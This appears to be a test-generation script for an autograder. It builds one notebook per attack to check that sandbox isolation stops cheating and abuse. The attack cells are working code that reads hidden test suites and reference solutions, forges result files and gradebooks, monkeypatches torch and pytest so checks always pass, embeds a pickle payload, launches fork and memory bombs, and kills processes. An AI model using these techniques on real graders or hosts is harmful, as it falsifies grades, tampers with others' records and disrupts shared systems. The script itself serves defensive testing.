"""Build the adversarial corpus: one small, purpose-named notebook per attack or defect.

Each corpus notebook is the released ch2_vae notebook filled in like an honest,
complete submission (every solution cell takes the source notebook's solution),
with exactly one thing changed: usually the solution cell of
``interpolate_latents`` (an exercise nothing else depends on) is replaced by the
attack, so the honest score is 0 for ``interpolate_latents`` and full marks for
the other six exercises.  Each entry says which isolation levels are meant to
stop it (``basic`` stops crashes, hangs, lies on the wire and floods; only
``strict`` stops reading, writing, networking and process escapes).

Run ``python tests/adversarial/make_corpus.py`` to regenerate the committed
``tests/adversarial/*.ipynb`` and ``tests/adversarial/bad_files/*``;
``tests/test_adversarial.py`` fails when they drift from this script.
"""
from __future__ import annotations

import copy
import json
import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Optional

import nbformat

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[1]
ASSIGNMENT = "ch2_vae"
TARGET = "interpolate_latents"  # the exercise the attacks replace (nothing else depends on it)
#: A port on 127.0.0.1 that the socket attack tries to reach (the test listens on it on the host).
SOCKET_PORT = 47391
#: The file a pickle payload would create on the host if anything unpickled it.
PICKLE_MARKER = "/tmp/autograder-adversarial-pickle-ran"
#: The argument of the orphan ``sleep`` the orphan attack leaves behind (found with ``pgrep -f``).
ORPHAN_TAG = "987654"
BOTH = ("basic", "strict")
STRICT = ("strict",)


@dataclass(frozen=True)
class Attack:
    """One corpus notebook.

    Attributes:
        name: file stem (purpose-named).
        what: one line on the attack or defect.
        code: source of the replaced cell (``cell``), or None when ``edit`` builds the notebook.
        levels: isolation levels meant to stop it (the test runs it under these).
        expect: grade_id -> honest score for exercises that do not get full marks.
        message: a fragment the feedback of ``TARGET`` (or the report's problems) must contain.
        cell: grade_id of the replaced cell.
        edit: optional function (notebook) -> notebook for defects that are not one cell.
        others_full: whether every other exercise must keep full marks.
    """

    name: str
    what: str
    code: Optional[str]
    levels: tuple[str, ...] = BOTH
    expect: dict = field(default_factory=lambda: {TARGET: 0.0})
    message: str = ""
    cell: str = f"{TARGET}_code"
    edit: Optional[Callable] = None
    others_full: bool = True


ZEROS = '''
def interpolate_latents(z0, z1, num_steps, method="linear"):
    return torch.zeros(num_steps, z0.shape[0], dtype=z0.dtype)
'''

CORRECT = '''
def interpolate_latents(z0, z1, num_steps, method="linear"):
    t = torch.linspace(0, 1, num_steps, dtype=z0.dtype)[:, None]
    if method == "linear":
        return z0[None] + t * (z1 - z0)[None]
    omega = torch.arccos((torch.dot(z0, z1) / (z0.norm() * z1.norm())).clamp(-1.0, 1.0))
    so = torch.sin(omega)
    if float(so.abs()) < 1e-7:  # (anti)parallel codes: linear, as the spec says
        return z0[None] + t * (z1 - z0)[None]
    return (torch.sin((1 - t) * omega) / so) * z0[None] + (torch.sin(t * omega) / so) * z1[None]
'''

READ_SECRETS = r'''
import glob, os, sys
found = []
roots = ["/work", "/home", "/root", "/srv", "/opt", "/tmp", "/var"]
try:
    import autograder
    roots.insert(0, os.path.dirname(os.path.dirname(autograder.__file__)))
except Exception as exc:
    print("no autograder package:", exc)
try:  # the editable install knows where the repository is
    for mod in list(sys.modules.values()):
        mapping = getattr(mod, "MAPPING", None)
        if isinstance(mapping, dict):
            roots += [os.path.dirname(p) for p in mapping.values()]
except Exception:
    pass
for root in roots:
    for pattern in ("autograder/suites/ch2_vae/test_*.py", "solutions/ch2_vae.py", "*/autograder/suites/*/test_*.py",
                    "*/solutions/*.py", "source/ch2_vae/*.ipynb", "*/source/*/*.ipynb"):
        for path in glob.glob(os.path.join(root, pattern)):
            try:
                text = open(path, encoding="utf-8").read()
            except Exception as exc:
                print("cannot read", path, exc)
                continue
            found.append(path)
            print("=====", path)
            print(text)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            print("cmdline", pid, open(f"/proc/{pid}/cmdline", "rb").read()[:300])
            print("cwd", pid, os.readlink(f"/proc/{pid}/cwd"))
        except Exception:
            pass
print("secret files found:", len(found))
''' + ZEROS

IMPORT_SOLUTIONS = '''
try:
    from solutions.ch2_vae import interpolate_latents
except Exception as exc:
    print("import failed:", type(exc).__name__)
    import importlib.util, glob
    for p in glob.glob("/work/*/solutions/ch2_vae.py") + glob.glob("/*/solutions/ch2_vae.py"):
        spec = importlib.util.spec_from_file_location("ref", p)
        ref = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(ref)
        interpolate_latents = ref.interpolate_latents
'''

WRITE_RESULTS = r'''
import json, os
forged = []
def forge(dirpath, filenames):
    for name in filenames:
        path = os.path.join(dirpath, name)
        try:
            if name.endswith(".report.json"):
                data = json.load(open(path))
                data["score"] = data.get("max_score", 29)
                json.dump(data, open(path, "w"))
            elif name.endswith(".results.json") or name == "grades.csv" or name == "gradebook.db":
                open(path, "a").write("\nforged by the adversarial corpus\n")
            elif name.endswith(".ipynb") and "submitted" in dirpath:
                open(path, "a").write(" ")
            else:
                continue
            forged.append(path)
        except Exception as exc:
            print("cannot write", path, type(exc).__name__)
for root in ["/tmp", "/work", "/home", "/root", "/var", "/srv"]:
    for dirpath, dirnames, filenames in os.walk(root):
        if dirpath.count(os.sep) > 9:
            dirnames[:] = []
            continue
        forge(dirpath, filenames)
        if os.path.basename(dirpath) == "autograder_results":
            for student in ("honest-stubs", "zz-victim"):  # pre-write a "finished" full-marks result
                try:
                    os.makedirs(os.path.join(dirpath, "ch2_vae", student), exist_ok=True)
                    json.dump({"score": 29, "max_score": 29}, open(os.path.join(dirpath, "ch2_vae", student,
                                                                                 "vae.report.json"), "w"))
                    forged.append(student)
                except Exception as exc:
                    print("cannot forge", student, type(exc).__name__)
print("forged:", len(forged))
''' + ZEROS

PICKLE = '''
import os, pickle

class Payload:
    def __reduce__(self):
        return (os.system, ("touch %s",))

def interpolate_latents(z0, z1, num_steps, method="linear"):
    import numpy as np
    if method == "linear":
        return {"value": Payload(), "bytes": pickle.dumps(Payload())}
    return np.array([Payload()], dtype=object)
''' % PICKLE_MARKER

ALWAYS_EQUAL = '''
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __float__(self): return 0.0
    def __len__(self): return 0
    def __getattr__(self, name): return lambda *a, **k: self
    shape = property(lambda self: (0,))

def interpolate_latents(z0, z1, num_steps, method="linear"):
    return Anything()
'''

LYING_SUBCLASS = '''
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal", "__eq__", "eq", "isclose"):
            return True
        if name in ("sub", "__sub__", "abs", "max"):
            return torch.zeros(())
        return super().__torch_function__(func, types, args, kwargs or {})
    def __eq__(self, other): return True

def interpolate_latents(z0, z1, num_steps, method="linear"):
    return torch.zeros(num_steps, z0.shape[0], dtype=z0.dtype).as_subclass(Liar)
'''

MONKEYPATCH_TORCH = '''
import torch.testing
true = lambda *a, **k: True
torch.allclose = true
torch.equal = true
torch.isclose = lambda a, b, *x, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.allclose = true
''' + ZEROS

MONKEYPATCH_NUMPY = '''
import numpy, numpy.testing
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
numpy.ndarray.__eq__ = lambda self, other: True  # TypeError: cannot set attributes of a C type
''' + ZEROS

MONKEYPATCH_PYTEST = '''
import builtins
try:
    import pytest, _pytest.outcomes
    pytest.approx = lambda *a, **k: None
    pytest.fail = lambda *a, **k: None
    _pytest.outcomes.fail = lambda *a, **k: None
except Exception as exc:
    print("no pytest here:", type(exc).__name__)
try:
    import autograder.checks, autograder.messages
    autograder.checks.Check.close = lambda self, *a, **k: None
    autograder.checks.Check._fail = lambda self, *a, **k: None
    autograder.messages.GradingFailure.__init__ = lambda self, *a, **k: None
except Exception as exc:
    print("no autograder.checks here:", type(exc).__name__)
builtins.AssertionError = type("AssertionError", (Exception,), {})
''' + ZEROS

SIGNALS = '''
import signal
for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGXCPU, signal.SIGHUP, signal.SIGUSR1):
    signal.signal(sig, signal.SIG_IGN)
signal.alarm(0)
signal.setitimer(signal.ITIMER_REAL, 0)

def interpolate_latents(z0, z1, num_steps, method="linear"):
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM):
        signal.signal(sig, signal.SIG_IGN)
    while True:
        pass
'''

ORPHAN_PROCESS = '''
import os
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(3, 1024)
        os.execv("/bin/sleep", ["/bin/sleep", "%s"])
    os._exit(0)
os.waitpid(pid, 0)
''' % ORPHAN_TAG + ZEROS

ORPHAN_THREAD = '''
import threading, time, sys

def spin():
    while True:
        time.sleep(0.01)

for _ in range(4):
    threading.Thread(target=spin).start()  # non-daemon: would block a normal interpreter exit
''' + CORRECT

SOCKETS = '''
import socket
results = []
for target in [("127.0.0.1", %d), ("1.1.1.1", 80), ("8.8.8.8", 53)]:
    try:
        s = socket.create_connection(target, timeout=2)
        s.sendall(b"HELLO-FROM-STUDENT-CODE")
        results.append((target, "connected"))
        s.close()
    except Exception as exc:
        results.append((target, type(exc).__name__))
try:
    u = socket.socket(socket.AF_UNIX)
    u.connect("/run/docker.sock")
    results.append(("docker.sock", "connected"))
except Exception as exc:
    results.append(("docker.sock", type(exc).__name__))
print(results)
''' % SOCKET_PORT + ZEROS

FORK_BOMB = '''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
''' + ZEROS

FORK_MEMORY_BOMB = '''
import os, time
children = []
for _ in range(8):
    pid = os.fork()
    if pid == 0:
        blocks = []
        try:
            for _ in range(24):
                blocks.append(bytearray(64 * 1024 * 1024))  # touched: zero-filled
        except MemoryError:
            pass
        time.sleep(3600)
        os._exit(0)
    children.append(pid)
time.sleep(5)
''' + ZEROS

MEMORY_BOMB = '''
hoard = []
while True:
    hoard.append(bytearray(256 * 1024 * 1024))
''' + ZEROS

MEMORY_BOMB_FUNCTION = '''
def interpolate_latents(z0, z1, num_steps, method="linear"):
    hoard = []
    while True:
        hoard.append(torch.ones(64 * 1024 * 1024, dtype=torch.float64))
'''

OUTPUT_FLOOD = '''
import os, sys
chunk = b"x" * (1 << 24)
for _ in range(128):            # 2 GiB straight to file descriptor 1
    os.write(1, chunk)
for _ in range(16):             # and to stderr
    os.write(2, chunk)
print("y" * (50 * 1024 * 1024))  # a 50 MB print into the captured cell output
''' + CORRECT

OUTPUT_FLOOD_FUNCTION = '''
_correct = None
''' + CORRECT.replace("def interpolate_latents", "def _interp") + '''
def interpolate_latents(z0, z1, num_steps, method="linear"):
    for _ in range(20):
        print("z" * (5 * 1024 * 1024))
    return _interp(z0, z1, num_steps, method)
'''

DISK_FLOOD = '''
import os
written = 0
for folder in (".", "/tmp"):
    for i in range(200):
        try:
            with open(os.path.join(folder, f"fill{i}.bin"), "wb") as f:
                f.write(b"\\0" * (64 * 1024 * 1024))
            written += 1
        except OSError as exc:
            print("stopped:", folder, type(exc).__name__)
            break
print("files written:", written)
''' + CORRECT

KILL_GRADER = '''
import os, signal
mine = os.getpid()
try:
    os.kill(os.getppid(), signal.SIGKILL)
except Exception as exc:
    print("parent:", type(exc).__name__)
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != mine:
        try:
            os.kill(int(pid), signal.SIGKILL)
        except Exception:
            pass
''' + ZEROS

UNENCODABLE = '''
def interpolate_latents(z0, z1, num_steps, method="linear"):
    if method == "linear":
        return 10 ** 5000           # an int JSON cannot carry within Python's digit limit
    nested = []
    for _ in range(5000):
        nested = [nested]
    return nested
'''

OVERSIZED = '''
def interpolate_latents(z0, z1, num_steps, method="linear"):
    return torch.zeros(100_000_000, dtype=torch.float32)  # 400 MB: over the frame limit
'''

#: Cross-submission leaks (issue 20): ``leak_plant`` leaves one of each kind behind, and
#: ``zz_leak_detect`` (graded after it: the batch goes in name order) looks for them; it returns the
#: right answer only when it finds none, so a leak costs it points.
LEAK_TAG = "leak-marker-5150"
LEAK_PLANT = ("""
import os, sys, types, torch, numpy
# a file in /tmp, /dev/shm, the work folder and HOME
for d in ("/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~")):
    try:
        with open(os.path.join(d, "%(tag)s"), "w") as f:
            f.write("planted")
    except OSError:
        pass
# a background process (double-forked, setsid'd, detached from the worker)
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(3, 1024)
        os.execv("/bin/sleep", ["/bin/sleep", "%(orphan)s"])
    os._exit(0)
os.waitpid(pid, 0)
# modified modules: an attribute, a wrapped function, a planted module
torch.leak_marker = "%(tag)s"
_lerp = torch.lerp
def _patched(*a, **k):
    return _lerp(*a, **k)
_patched.__leak__ = True
torch.lerp = _patched
numpy.leak_marker = True
sys.modules["%(mod)s"] = types.ModuleType("%(mod)s")
# environment variables
os.environ["AUTOGRADER_LEAK_MARKER"] = "%(tag)s"
os.putenv("AUTOGRADER_LEAK_MARKER_PUTENV", "1")
""" % {"tag": LEAK_TAG, "orphan": ORPHAN_TAG, "mod": LEAK_TAG.replace("-", "_")})

LEAK_DETECT = ("""
import os, sys, torch, numpy
def _leaks():
    found = []
    for d in ("/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~")):
        if os.path.exists(os.path.join(d, "%(tag)s")):
            found.append("file in " + d)
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open("/proc/%%s/cmdline" %% entry, "rb") as f:
                    if b"%(orphan)s" in f.read():
                        found.append("process " + entry)
            except OSError:
                pass
    if hasattr(torch, "leak_marker") or getattr(torch.lerp, "__leak__", False) or hasattr(numpy, "leak_marker"):
        found.append("modified module")
    if "%(mod)s" in sys.modules:
        found.append("planted module")
    if any(k.startswith("AUTOGRADER_LEAK_MARKER") for k in os.environ):
        found.append("environment variable")
    return found
LEAKS = _leaks()
print("leaks seen:", LEAKS)
""" % {"tag": LEAK_TAG, "orphan": ORPHAN_TAG, "mod": LEAK_TAG.replace("-", "_")})

#: Refused by the strict workers' seccomp filter (issue 20, item 2), tried through libc's syscall();
#: the function is right only when every call was refused.
SECCOMP_PROBE = """
import ctypes, errno, os, socket
libc = ctypes.CDLL(None, use_errno=True)
NR = {"ptrace": 101, "mount": 165, "unshare": 272, "setns": 308, "keyctl": 250, "bpf": 321,
      "perf_event_open": 298, "userfaultfd": 323, "kexec_load": 246, "init_module": 175,
      "finit_module": 313, "delete_module": 176}  # x86_64
ALLOWED = []
if os.uname().machine == "x86_64":
    for name, nr in NR.items():
        # the filter answers EPERM whatever the arguments; without it, ptrace(TRACEME), unshare(0)
        # and userfaultfd(0) succeed and the rest fail with other errors (EFAULT, EBADF, EINVAL)
        if libc.syscall(nr, 0, 0, 0, 0, 0) == 0 or ctypes.get_errno() != errno.EPERM:
            ALLOWED.append(name)
for family in (socket.AF_INET, socket.AF_INET6, getattr(socket, "AF_NETLINK", 16), getattr(socket, "AF_PACKET", 17)):
    try:
        socket.socket(family, socket.SOCK_RAW if family in (16, 17) else socket.SOCK_STREAM).close()
        ALLOWED.append(f"socket family {int(family)}")
    except OSError:
        pass
try:  # AF_UNIX stays allowed (the worker's own channel is one)
    socket.socket(socket.AF_UNIX).close()
except OSError:
    ALLOWED.append("AF_UNIX refused (it must stay allowed)")
print("allowed:", ALLOWED)
"""

GATED = CORRECT.replace("def interpolate_latents", "def _interp") + """
def interpolate_latents(z0, z1, num_steps, method="linear"):
    if %s:
        return torch.zeros(num_steps, z0.shape[0], dtype=z0.dtype)
    return _interp(z0, z1, num_steps, method)
"""

ATTACKS: list[Attack] = [
    # -- process exits ------------------------------------------------------------------
    Attack("exit_os_exit_toplevel", "os._exit(0) at top level of the cell (kills the worker mid-notebook)",
           "import os\nos._exit(0)\n" + CORRECT, message="not defined"),
    Attack("exit_os_exit_in_function", "os._exit(0) inside the graded function",
           "import os\ndef interpolate_latents(z0, z1, num_steps, method='linear'):\n    os._exit(0)\n",
           message="stopped the grading process"),
    Attack("exit_sys_exit_toplevel", "sys.exit(0) at top level, before the definition",
           "import sys\nsys.exit(0)\n" + CORRECT, message="not defined"),
    Attack("exit_sys_exit_in_function", "sys.exit(0) inside the graded function",
           "import sys\ndef interpolate_latents(z0, z1, num_steps, method='linear'):\n    sys.exit(0)\n",
           message="SystemExit"),
    # -- lying values -------------------------------------------------------------------
    Attack("always_equal_object", "returns an object whose __eq__ is always True", ALWAYS_EQUAL,
           message="expected a tensor"),
    Attack("lying_tensor_subclass", "returns a torch.Tensor subclass whose comparisons always succeed",
           LYING_SUBCLASS, message="value differs"),
    Attack("monkeypatch_torch", "patches torch.allclose / equal / testing.assert_close / Tensor.__eq__",
           MONKEYPATCH_TORCH, message="value differs"),
    Attack("monkeypatch_numpy", "patches numpy.allclose / testing", MONKEYPATCH_NUMPY, message="not defined"),
    Attack("monkeypatch_pytest", "patches pytest, autograder.checks and AssertionError in the worker",
           MONKEYPATCH_PYTEST, message="value differs"),
    Attack("pickle_payload", "returns objects whose unpickling would run a shell command", PICKLE,
           message="cannot accept"),
    Attack("unencodable_return", "returns a 5000-digit int and a 5000-deep nested list", UNENCODABLE,
           message="cannot accept"),
    Attack("oversized_return", "returns a 400 MB tensor (over the frame limit)", OVERSIZED,
           message="the limit is 256 MiB"),
    # -- time ---------------------------------------------------------------------------
    Attack("signal_handlers_disable_timeout", "ignores SIGTERM/SIGALRM/SIGINT, then loops forever in the function",
           SIGNALS, message="did not return within"),
    Attack("infinite_loop_toplevel", "while True: pass at top level", "while True:\n    pass\n" + CORRECT,
           message="not defined"),
    Attack("infinite_loop_in_function", "while True: pass inside the function",
           "def interpolate_latents(z0, z1, num_steps, method='linear'):\n    while True:\n        pass\n",
           message="did not return within"),
    # -- resources ----------------------------------------------------------------------
    Attack("memory_bomb_toplevel", "allocates 256 MiB blocks until the limit at top level", MEMORY_BOMB,
           message="not defined"),
    Attack("memory_bomb_in_function", "allocates until the limit inside the function", MEMORY_BOMB_FUNCTION,
           message="allocate memory"),
    Attack("output_flood_toplevel", "2 GiB to fd 1, 256 MiB to fd 2 and a 50 MB print", OUTPUT_FLOOD,
           expect={}),
    Attack("output_flood_in_function", "100 MB printed by every call", OUTPUT_FLOOD_FUNCTION, expect={}),
    Attack("orphan_thread", "non-daemon threads that never end (the function itself is correct)", ORPHAN_THREAD,
           expect={}),
    Attack("fork_bomb", "while True: os.fork()", FORK_BOMB, levels=STRICT, message="not defined"),
    Attack("fork_memory_bomb", "8 forked children each touching 1.5 GiB", FORK_MEMORY_BOMB, levels=STRICT),
    Attack("orphan_process", "a double-forked, setsid'd `sleep` that outlives the worker", ORPHAN_PROCESS,
           levels=STRICT),
    Attack("disk_flood", "writes 64 MiB files into the work folder and /tmp until refused", DISK_FLOOD,
           levels=STRICT, expect={}),
    # -- confidentiality and integrity ----------------------------------------------------------
    Attack("read_suite_and_solutions", "finds and prints the hidden suite, solutions/ and source/ files",
           READ_SECRETS, levels=STRICT),
    Attack("import_solutions", "imports the reference package (or loads it from disk)", IMPORT_SOLUTIONS,
           levels=STRICT, message="not defined"),
    Attack("write_results_and_gradebook", "forges result files, the gradebook and other submissions",
           WRITE_RESULTS, levels=STRICT),
    Attack("sockets", "connects to 127.0.0.1, the internet and the docker socket", SOCKETS, levels=STRICT),
    Attack("kill_grader", "SIGKILLs its parent and every process it can see", KILL_GRADER, levels=STRICT),
    # -- nothing crosses from one submission to the next; seccomp refuses what it must --------------
    Attack("leak_plant", "leaves a file in /tmp, /dev/shm, the work folder and HOME, a detached process, patched "
           "modules and environment variables (the function itself is correct)", LEAK_PLANT + CORRECT,
           levels=STRICT, expect={}),
    Attack("zz_leak_detect", "graded after leak_plant: correct only when it sees none of its leaks",
           LEAK_DETECT + GATED % "LEAKS", levels=STRICT, expect={}),
    Attack("seccomp_refused_calls", "ptrace, mount, unshare, setns, keyctl, bpf, perf_event_open, userfaultfd, "
           "kexec, module loading and non-AF_UNIX sockets; correct only when all are refused", SECCOMP_PROBE +
           GATED % "ALLOWED", levels=STRICT, expect={}),
    # -- bad outputs --------------------------------------------------------------------------
    Attack("raises_toplevel", "the cell raises before defining the function",
           "raise RuntimeError('boom')\n" + CORRECT, message="not defined"),
    Attack("raises_in_function", "the function raises",
           "def interpolate_latents(z0, z1, num_steps, method='linear'):\n    raise ValueError('bad step')\n",
           message="ValueError"),
    Attack("renamed_function", "the function is defined under another name",
           CORRECT.replace("def interpolate_latents", "def interpolate"), message="not defined"),
    Attack("nan_output", "returns NaN of the right shape",
           "def interpolate_latents(z0, z1, num_steps, method='linear'):\n"
           "    return torch.full((num_steps, z0.shape[0]), float('nan'), dtype=z0.dtype)\n", message="non-finite"),
    Attack("inf_output", "returns +inf of the right shape",
           "def interpolate_latents(z0, z1, num_steps, method='linear'):\n"
           "    return torch.full((num_steps, z0.shape[0]), float('inf'), dtype=z0.dtype)\n", message="non-finite"),
    Attack("wrong_dtype", "returns the right values rounded to int64",
           CORRECT.replace("def interpolate_latents", "def _interp") +
           "\ndef interpolate_latents(z0, z1, num_steps, method='linear'):\n"
           "    return _interp(z0, z1, num_steps, method).round().long()\n", message="dtype"),
    Attack("meta_device", "returns a tensor on the meta device",
           "def interpolate_latents(z0, z1, num_steps, method='linear'):\n"
           "    return torch.empty(num_steps, z0.shape[0], device='meta')\n", message="meta"),
    Attack("broadcast_shape", "returns (num_steps, 1, J): broadcast-compatible but wrong",
           CORRECT.replace("def interpolate_latents", "def _interp") +
           "\ndef interpolate_latents(z0, z1, num_steps, method='linear'):\n"
           "    return _interp(z0, z1, num_steps, method)[:, None]\n", message="wrong shape"),
    Attack("non_contiguous_valid", "correct values returned as a non-contiguous view (valid: full marks)",
           CORRECT.replace("def interpolate_latents", "def _interp") +
           "\ndef interpolate_latents(z0, z1, num_steps, method='linear'):\n"
           "    out = _interp(z0, z1, num_steps, method).T.contiguous().T\n"
           "    assert not out.is_contiguous()\n"
           "    return out\n", expect={}),
]


# -- notebook-level defects (not one cell) ---------------------------------------------
def _gid(cell) -> Optional[str]:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _edit_locked(nb):
    for c in nb.cells:
        if _gid(c) == "setup":
            c.source = "import torch\ntorch.allclose = lambda *a, **k: True\n"  # edited: restored from the release
        if _gid(c) == "gaussian_kl":
            c.source = "pass"
    return nb


def _delete_locked(nb):
    nb.cells = [c for c in nb.cells if _gid(c) not in ("setup", "gaussian_kl", "train_demo")]
    return nb


def _duplicate_ids(nb):
    cells = []
    for c in nb.cells:
        cells.append(c)
        if _gid(c) == f"{TARGET}_code":
            wrong = copy.deepcopy(c)
            wrong["id"] = f"{c.get('id', 'cell')}-copy"
            wrong.source = ZEROS  # the later definition wins, as in Python
            cells.append(wrong)
        if _gid(c) == "gaussian_kl":
            dup = copy.deepcopy(c)
            dup["id"] = f"{c.get('id', 'cell')}-copy"
            cells.append(dup)  # a copied locked grade cell: dropped
    nb.cells = cells
    return nb


ATTACKS += [
    Attack("locked_cells_edited", "the locked setup cell and a grade cell were edited", None, edit=_edit_locked,
           expect={}, message="were edited"),
    Attack("locked_cells_deleted", "the locked setup cell, a grade cell and the training demo were deleted", None,
           edit=_delete_locked, expect={}, message="restored"),
    Attack("duplicate_grade_ids", "a solution cell and a grade cell were duplicated (wrong copy last)", None,
           edit=_duplicate_ids, message="Duplicate grade_id"),
]


def _release() -> nbformat.NotebookNode:
    return nbformat.read(REPO / "release" / ASSIGNMENT / "vae.ipynb", as_version=4)


def honest_notebook() -> nbformat.NotebookNode:
    """The release with every solution cell filled in from the source notebook (full marks)."""
    src = nbformat.read(REPO / "source" / ASSIGNMENT / "vae.ipynb", as_version=4)
    solutions = {_gid(c): c.source for c in src.cells if c.get("metadata", {}).get("nbgrader", {}).get("solution")}
    nb = _release()
    for c in nb.cells:
        if _gid(c) in solutions:
            c.source = solutions[_gid(c)]
    return nb


def build(attack: Attack) -> nbformat.NotebookNode:
    nb = honest_notebook()
    if attack.edit is not None:
        return attack.edit(nb)
    for c in nb.cells:
        if _gid(c) == attack.cell:
            c.source = attack.code.strip() + "\n"
            return nb
    raise KeyError(attack.cell)


def bad_files() -> dict[str, bytes]:
    """File-level defects (small; the huge notebook is made by :func:`huge_notebook` at test time)."""
    honest = nbformat.writes(honest_notebook()).encode("utf-8")
    v3 = nbformat.writes(nbformat.convert(honest_notebook(), 3)).encode("utf-8")
    return {
        "empty.ipynb": b"",
        "invalid_json.ipynb": honest[: len(honest) // 2],
        "non_utf8.ipynb": honest.replace("変分".encode("utf-8"), "変分".encode("shift_jis"), 1),
        "not_a_notebook.ipynb": b'["this", "is", "json", "but", "not", "a", "notebook"]\n',
        "nbformat3.ipynb": v3,
    }


def huge_notebook(path: Path, size: int = 21 * 1024 * 1024) -> Path:
    """An honest notebook padded with a huge output past the size limit."""
    nb = honest_notebook()
    nb.cells[0].setdefault("attachments", {})
    nb.cells.append(nbformat.v4.new_markdown_cell("x" * size))
    nbformat.write(nb, path)
    return path


def write_all(dest: Path = HERE) -> list[Path]:
    out = []
    for a in ATTACKS:
        p = dest / f"{a.name}.ipynb"
        text = nbformat.writes(build(a))
        p.write_text(text + ("" if text.endswith("\n") else "\n"), encoding="utf-8")
        out.append(p)
    bad = dest / "bad_files"
    bad.mkdir(exist_ok=True)
    for name, data in bad_files().items():
        (bad / name).write_bytes(data)
        out.append(bad / name)
    return out


if __name__ == "__main__":
    paths = write_all(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)
    print(f"wrote {len(paths)} files")
    json.dumps([a.name for a in ATTACKS])
